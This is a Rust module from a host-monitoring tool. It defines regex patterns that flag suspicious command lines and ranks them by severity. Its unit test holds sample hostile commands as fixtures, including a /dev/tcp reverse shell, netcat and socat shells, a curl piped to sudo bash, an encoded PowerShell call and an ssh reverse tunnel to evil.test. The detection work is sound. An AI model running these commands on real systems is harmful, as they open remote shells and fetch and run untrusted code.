//! Command lines that tell of network use: what intruders type, and what opens ways in and out.

use atalaya_model::Severity;
use regex::RegexSet;

/// A pattern.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Pattern {
    /// Its name.
    pub(super) name: &'static str,
    /// How grave it is.
    pub(super) severity: Severity,
    /// What it means, in a few words; the catalogue has them in other languages.
    pub(super) meaning: &'static str,
    expression: &'static str,
}

const fn pattern(
    name: &'static str,
    severity: Severity,
    meaning: &'static str,
    expression: &'static str,
) -> Pattern {
    Pattern {
        name,
        severity,
        meaning,
        expression,
    }
}

/// Every pattern, the gravest first: of several that match a command line the first counts.
pub(super) const PATTERNS: &[Pattern] = &[
    pattern(
        "shell_socket",
        Severity::Critical,
        "a shell redirected to a network socket",
        r"/dev/(tcp|udp)/",
    ),
    pattern(
        "netcat_shell",
        Severity::Critical,
        "netcat that hands its connection to a shell",
        r"(?i)\b(nc|ncat|netcat)(\.\w+)?\b.*\s(-\w*[ec]|--exec|--sh-exec)\s*\S*(sh|cmd|powershell|pwsh)\b",
    ),
    pattern(
        "socat_shell",
        Severity::Critical,
        "socat that hands its connection to a program",
        r"(?i)\bsocat\b.*\b(exec|system):",
    ),
    pattern(
        "script_socket",
        Severity::High,
        "a program typed on the command line that opens a socket",
        r"(?i)\b(python|perl|ruby|php|lua|node)[\d.]*\b.*\s-\w*[cer]\b.*(socket|fsockopen|net\.connect)",
    ),
    pattern(
        "download_and_run",
        Severity::High,
        "a download handed straight to an interpreter",
        r"(?i)\b(curl|wget|fetch)\b[^|;]*\|\s*(sudo\s+)?(\S*/)?((ba|da|z|k)?sh|python[\d.]*|perl|php)\b",
    ),
    pattern(
        "decode_and_run",
        Severity::High,
        "an encoded text handed straight to an interpreter",
        r"(?i)\bbase64\s+(-d|--decode)\b.*\|\s*(sudo\s+)?(\S*/)?((ba|da|z|k)?sh|python[\d.]*|perl|php)\b",
    ),
    pattern(
        "encoded_powershell",
        Severity::High,
        "PowerShell with an encoded command",
        r"(?i)\b(powershell|pwsh)(\.exe)?\b.*\s[-/]e(nc|ncodedcommand|c)?\s+[a-z0-9+/=]{20,}",
    ),
    pattern(
        "powershell_download",
        Severity::High,
        "PowerShell that downloads",
        r"(?i)\b(powershell|pwsh)(\.exe)?\b.*(downloadstring|downloadfile|invoke-webrequest|\biwr\b|net\.webclient)",
    ),
    pattern(
        "system_download",
        Severity::High,
        "a system program misused for downloading",
        r"(?i)\b(certutil|bitsadmin|mshta|regsvr32|rundll32)(\.exe)?\b.*https?:",
    ),
    pattern(
        "mining",
        Severity::High,
        "mining of cryptocurrency",
        r"(?i)(\bstratum\+(tcp|ssl)://|\b(xmrig|minerd|cpuminer)\b)",
    ),
    pattern(
        "netcat_listener",
        Severity::Medium,
        "netcat that listens",
        r"(?i)\b(nc|ncat|netcat)(\.\w+)?\s(.*\s)?(-\w*l\w*|--listen)\b",
    ),
    pattern(
        "tunnel",
        Severity::Medium,
        "a tunnel or proxy",
        r"(?i)(\bssh\b.*\s-(\w*[RDw]|o\s*(RemoteForward|DynamicForward))|\b(chisel|ngrok|frpc|frps|gost|ligolo\S*|iodine|dnscat2?|cloudflared|rathole|sshuttle|proxychains4?|tor|obfs4proxy)(\s|$))",
    ),
    pattern(
        "scanner",
        Severity::Medium,
        "a scanner or password guesser",
        r"(?i)\b(nmap|masscan|zmap|rustscan|hydra|medusa|sqlmap|nikto|gobuster|crackmapexec|netexec)\b",
    ),
    pattern(
        "ad_hoc_server",
        Severity::Low,
        "a web server started by hand",
        r"(?i)(-m\s+(http\.server|simplehttpserver)\b|\bphp[\d.]*\s+-S\s)",
    ),
    pattern(
        "cloud_copy",
        Severity::Low,
        "files copied to or from a cloud",
        r"(?i)\b(rclone|mega-(get|put)|gsutil|azcopy|aws\s+s3)\s",
    ),
    pattern(
        "address_in_url",
        Severity::Low,
        "a web address without a name",
        r"(?i)\b(https?|ftp)://(\d{1,3}\.){3}\d{1,3}\b",
    ),
    pattern(
        "url",
        Severity::Info,
        "a web address",
        r"(?i)\b(https?|ftps?)://\w",
    ),
];

/// The patterns, compiled.
#[derive(Debug)]
pub(super) struct Commands(RegexSet);

impl Commands {
    pub(super) fn new() -> Self {
        let expressions = PATTERNS.iter().map(|pattern| pattern.expression);
        // A test compiles them all.
        Self(RegexSet::new(expressions).unwrap_or_else(|_| RegexSet::empty()))
    }

    /// The gravest pattern of a command line.
    pub(super) fn find(&self, command_line: &str) -> Option<&'static Pattern> {
        let first = self.0.matches(command_line).iter().next()?;
        PATTERNS.get(first)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_finds_what_it_is_for_and_no_more() {
        let commands = Commands::new();
        assert_eq!(commands.0.len(), PATTERNS.len(), "one does not compile");
        let sorted = PATTERNS.is_sorted_by(|a, b| a.severity >= b.severity);
        assert!(sorted, "the gravest come first");
        for (line, name) in [
            ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "shell_socket"),
            ("nc -e /bin/sh 203.0.113.9 4444", "netcat_shell"),
            ("ncat 203.0.113.9 4444 --sh-exec bash", "netcat_shell"),
            ("socat TCP:203.0.113.9:1 EXEC:/bin/bash,pty", "socat_shell"),
            (
                "python3 -c import socket,subprocess,os;s=socket.socket()",
                "script_socket",
            ),
            (
                "sh -c curl -s https://x.test/i.sh | sudo bash",
                "download_and_run",
            ),
            ("sh -c echo aGk= | base64 -d | sh", "decode_and_run"),
            (
                "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A",
                "encoded_powershell",
            ),
            (
                "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
                "powershell_download",
            ),
            (
                "certutil -urlcache -f http://198.51.100.7/a.exe a.exe",
                "system_download",
            ),
            ("./a -o stratum+tcp://pool.test:3333", "mining"),
            ("nc -lvnp 4444", "netcat_listener"),
            ("nc.traditional -v -l -p 4444", "netcat_listener"),
            ("ssh -N -R 9000:localhost:22 evil.test", "tunnel"),
            ("/opt/chisel client 203.0.113.9:80 R:socks", "tunnel"),
            ("nmap -sS 10.0.0.0/8", "scanner"),
            ("python3 -m http.server 8000", "ad_hoc_server"),
            ("rclone copy /srv remote:x", "cloud_copy"),
            ("curl http://198.51.100.7/x", "address_in_url"),
            ("curl https://example.org/x", "url"),
        ] {
            let found = commands.find(line).map(|pattern| pattern.name);
            assert_eq!(found, Some(name), "{line}");
        }
        for line in [
            "/usr/sbin/sshd -D",
            "ssh ana@example.org",
            "/usr/bin/python3 /usr/bin/networkd-dispatcher --run-startup-triggers",
            "nginx: worker process",
            "nc 203.0.113.9 80",
            "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main",
            "tail -f /var/log/syslog",
            "python3 -c print(1)",
            "vim tor-notes.txt",
            "",
        ] {
            assert_eq!(commands.find(line).map(|pattern| pattern.name), None, "{line}");
        }
    }
}
